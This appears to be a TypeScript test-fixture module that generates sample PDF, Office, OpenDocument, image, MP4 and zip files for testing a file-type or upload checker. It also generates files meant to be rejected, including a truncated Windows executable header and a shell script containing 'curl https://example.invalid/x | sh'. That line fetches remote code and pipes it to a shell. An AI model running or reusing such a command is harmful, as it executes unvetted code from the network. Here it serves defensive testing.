import { strToU8, zipSync } from "fflate";
import sharp from "sharp";

/**
 * Small but valid files of each accepted kind, made in the test so every
 * byte is ours: a one-page PDF with a line of text, Office Open XML and
 * OpenDocument packages holding the given words, images drawn by sharp, and
 * the smallest MP4 header.
 */
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const escapeXml = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** A PDF whose only page shows `text` (ASCII, no parentheses) in Helvetica, with a correct xref table. */
export function pdfWith(text: string): Uint8Array {
  const content = `BT /F1 18 Tf 20 100 Td (${text}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let pdf = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(pdf.length);
    pdf += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  pdf += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return strToU8(pdf);
}

/** Starts like a PDF, then is nothing of the sort. */
export const corruptPdf = (): Uint8Array =>
  strToU8("%PDF-1.7\n1 0 obj << /Type /Catal\u0000\u0001 broken beyond repair");

const contentTypes = (overrides: string) =>
  `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
  `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
  `<Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`;
const rootRels = (target: string) =>
  `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/></Relationships>`;

export function docxWith(text: string): Uint8Array {
  return zipSync({
    "[Content_Types].xml": strToU8(
      contentTypes(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      ),
    ),
    "_rels/.rels": strToU8(rootRels("word/document.xml")),
    "word/document.xml": strToU8(
      `${XML_HEAD}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` +
        `<w:p><w:r><w:t>${escapeXml(text)}</w:t></w:r></w:p></w:body></w:document>`,
    ),
  });
}

export function pptxWith(text: string): Uint8Array {
  return zipSync({
    "[Content_Types].xml": strToU8(contentTypes("")),
    "_rels/.rels": strToU8(rootRels("ppt/presentation.xml")),
    "ppt/presentation.xml": strToU8(
      `${XML_HEAD}<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
    ),
    "ppt/slides/slide1.xml": strToU8(
      `${XML_HEAD}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">` +
        `<p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${escapeXml(text)}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
    ),
  });
}

export function xlsxWith(text: string): Uint8Array {
  return zipSync({
    "[Content_Types].xml": strToU8(contentTypes("")),
    "_rels/.rels": strToU8(rootRels("xl/workbook.xml")),
    "xl/workbook.xml": strToU8(
      `${XML_HEAD}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`,
    ),
    "xl/sharedStrings.xml": strToU8(
      `${XML_HEAD}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${escapeXml(text)}</t></si></sst>`,
    ),
  });
}

function openDocument(mimetype: string, body: string): Uint8Array {
  return zipSync({
    // OpenDocument puts `mimetype` first and uncompressed.
    mimetype: [strToU8(mimetype), { level: 0 }],
    "content.xml": strToU8(
      `${XML_HEAD}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0">` +
        `<office:body>${body}</office:body></office:document-content>`,
    ),
  });
}

export const odtWith = (text: string): Uint8Array =>
  openDocument(
    "application/vnd.oasis.opendocument.text",
    `<office:text><text:p>${escapeXml(text)}</text:p></office:text>`,
  );

/** An OpenDocument presentation with one slide holding `text` in a text box. */
export const odpWith = (text: string): Uint8Array =>
  openDocument(
    "application/vnd.oasis.opendocument.presentation",
    `<office:presentation><draw:page draw:name="Slide 1"><draw:frame><draw:text-box><text:p>${escapeXml(text)}</text:p></draw:text-box></draw:frame></draw:page></office:presentation>`,
  );

/** A small table, as a spreadsheet exports it. */
export const csvWith = (text: string): Uint8Array => strToU8(`term,meaning\n${text},a word only this table holds\n`);

/** A `width` × `height` picture (a blue field with a white band) in the given format. */
export async function picture(format: "png" | "jpeg" | "webp", width = 600, height = 400): Promise<Uint8Array> {
  const band = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="100%" height="100%" fill="#1d4f91"/><rect y="40%" width="100%" height="20%" fill="#fff"/></svg>`,
  );
  return new Uint8Array(await sharp(band).toFormat(format).toBuffer());
}

/**
 * The smallest MP4 a reader recognises: an `ftyp` box (size, "ftyp", major
 * brand "isom", minor version, compatible brands) followed by an empty `mdat`.
 */
export function mp4(): Uint8Array {
  const ftyp = Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from("ftypisom"),
    Buffer.from([0, 0, 2, 0]),
    Buffer.from("isommp41"),
  ]);
  const mdat = Buffer.concat([Buffer.from([0, 0, 0, 8]), Buffer.from("mdat")]);
  return new Uint8Array(Buffer.concat([ftyp, mdat]));
}

/** A 1×1 transparent PNG. */
export const png = (): Uint8Array =>
  Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "base64",
  );

/** The start of a Windows program: what a renamed .exe looks like. */
export const windowsExecutable = (): Uint8Array =>
  Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]);

export const shellScript = (): Uint8Array => strToU8("#!/bin/sh\ncurl https://example.invalid/x | sh\n");

/** An ordinary zip of a text file: an archive, not a document. */
export const plainZip = (): Uint8Array => zipSync({ "notes.txt": strToU8("just notes") });
